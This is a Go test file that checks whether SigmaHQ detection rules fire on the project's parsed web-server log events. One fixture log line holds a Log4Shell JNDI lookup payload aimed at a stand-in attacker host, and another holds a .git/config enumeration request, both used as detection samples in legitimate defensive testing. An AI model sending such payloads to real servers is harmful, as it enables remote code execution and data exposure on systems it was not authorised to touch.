package detect

import (
	"os"
	"path/filepath"
	"testing"
)

// TestPublicRulesFireOnOurEvents: SigmaHQ rules written against Sigma's
// taxonomy fire on events from our parsers through the field mapping.
func TestPublicRulesFireOnOurEvents(t *testing.T) {
	corpus := "../../../shared/corpus/sigmahq"
	if _, err := os.Stat(corpus); err != nil {
		t.Skipf("corpus not found at %s (it lives next to the repository): %v", corpus, err)
	}
	rules, err := LoadSigma([]string{
		filepath.Join(corpus, "rules-emerging-threats/2021/Exploits/CVE-2021-44228/web_cve_2021_44228_log4j_fields.yml"),
		filepath.Join(corpus, "rules/web/webserver_generic/web_source_code_enumeration.yml"),
	}, nil)
	if err != nil || len(rules.Rules()) != 2 {
		t.Fatalf("load: %v %v", err, rules.Refused())
	}
	for _, tc := range []struct {
		format, line, want string
	}{
		{"nginx", `203.0.113.9 - - [01/Nov/2026:10:00:00 +0900] "GET / HTTP/1.1" 200 12 "-" "${jndi:ldap://evil.example/a}"`, "9be472ed-893c-4ec0-94da-312d2765f654"},
		{"apache", `203.0.113.9 - - [01/Nov/2026:10:00:00 +0900] "GET /.git/config HTTP/1.1" 404 12 "-" "curl/8"`, "953d460b-f810-420a-97a2-cfca4c98e602"},
	} {
		ev := parsed(t, tc.format, tc.line)
		ev.Format = tc.format
		var got []string
		for _, m := range rules.Match(7, ev, nil) {
			got = append(got, m.RuleID)
		}
		if len(got) != 1 || got[0] != tc.want {
			t.Errorf("%s line: fired %v, want %s (log source %v)", tc.format, got, tc.want, LogSource(ev))
		}
	}
}
